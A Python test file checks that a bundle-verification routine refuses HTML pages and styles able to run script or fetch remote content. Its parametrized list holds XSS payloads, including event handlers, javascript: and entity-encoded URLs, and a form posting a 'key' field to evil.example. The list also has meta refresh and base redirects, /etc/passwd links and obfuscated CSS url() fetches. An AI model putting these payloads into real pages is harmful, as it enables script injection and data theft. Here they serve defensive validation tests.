"""The page in a bundle is not compared, but it may do nothing by itself."""

from __future__ import annotations

import lzma

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from changqing.sealing import verify
from tests.sealing.make_example import BUNDLE
from tests.sealing.make_golden import GOLDEN
from tests.sealing.sealed_bundle import Sealed, broken, unpacked
from tests.share import examples

PAGES = ("index.html", "index.en.html")
ACTIVE = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js>",
    "<p onclick=\"alert(1)\">x</p>",
    "<p onmouseover=alert(1)>x</p>",
    '<img src="x" onerror="alert(1)">',
    '<img src="https://evil.example/pixel">',
    '<img src="//evil.example/pixel">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="https://evil.example/">x</a>',
    '<a href="../../etc/passwd">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="objects/' + "ab" * 32 + '">a page of somebody else</a>',
    '<img src="documents/x.svg">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta charset="utf-7">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<iframe src="objects/x"></iframe>',
    '<object data="objects/x"></object>',
    '<embed src="objects/x">',
    '<form action="https://evil.example/"><input name="key"></form>',
    '<svg onload="alert(1)"></svg>',
    "<math></math>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[x]]>",
    "<?xml x?>",
    "<p\nonclick=\"alert(1)\">x</p>",
    "<p style=\"background:url(x)\">x</p>",
    "<p/onclick=\"alert(1)\">x</p>",
    "<plaintext>",
    "<textarea>",
    "< p>",
    "1 < 2",
]  # fmt: skip


@pytest.mark.share
@pytest.mark.parametrize("active", ACTIVE)
def test_a_page_that_could_act_is_refused(active: str, full: Sealed) -> None:
    files = full.files()
    page = files["index.html"].decode()
    for at in (page.index("<h2>"), page.index("</body>")):
        acts = f"{page[:at]}{active}{page[at:]}".encode()
        assert not verify.is_passive(acts)


@pytest.mark.parametrize("name", PAGES)
def test_a_script_in_a_page_that_its_sealer_signed_is_named(
    name: str, full: Sealed
) -> None:
    files = full.files()
    acts = files[name].replace(b"</body>", b"<script>x</script></body>")
    report = full.check(full.resealed({**files, name: acts}))
    assert broken(report) == [name]
    assert "do not open it" in report.damaged[0][1][1]


@pytest.mark.parametrize(
    "style",
    [
        "@import 'x';",
        "a{background:url(x)}",
        "a{background:URL (x)}",
        "a{background:u\\72l(x)}",
        "a{background:image-set('x' 1x)}",
    ],
)
def test_a_style_that_fetches_is_refused(style: str, full: Sealed) -> None:
    page = full.files()["index.html"].decode()
    assert verify.is_passive(page.encode())
    assert not verify.is_passive(page.replace("<style>", f"<style>{style}").encode())


def test_what_is_no_page_of_ours_is_refused(full: Sealed) -> None:
    page = full.files()["index.html"]
    for odd in (b"", b"x" + page, b"\xef\xbb\xbf" + page, page + b"\xff", page.upper()):
        assert not verify.is_passive(odd)


@pytest.mark.long
def test_pages_of_every_bundle_so_far_only_show(sealed: Sealed, full: Sealed) -> None:
    found = [
        unpacked(lzma.decompress(path.read_bytes()))
        for path in [BUNDLE, *sorted(GOLDEN.glob("*.zip.xz"))]
    ]
    for files in [sealed.files(), full.files(), *found]:
        assert all(verify.is_passive(files[name]) for name in PAGES)


@given(st.text(alphabet="<>/=\"' apscript!-&;#:\n", max_size=60))
@settings(max_examples=examples(300))
def test_no_text_makes_a_page_that_acts(text: str) -> None:
    """What passes has no tag but harmless ones, however it is written."""
    page = f"{verify.START}<p>{text}</p>".encode()
    if verify.is_passive(page):
        assert "<script" not in text
        assert "<!" not in text
        assert "<img" not in text or 'src="' in text


def test_a_page_too_large_to_look_through_is_said(
    full: Sealed, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(verify, "MOST_PAGE", 1 << 10)
    report = full.check(full.files())
    said = [en for _, en in report.unchecked]
    assert said == [
        f"{name} is too large to be searched for a script: do not open it"
        for name in PAGES
    ]


def test_the_first_screen_says_that_the_page_was_not_compared(full: Sealed) -> None:
    assert verify.PAGE in full.check(full.files()).about
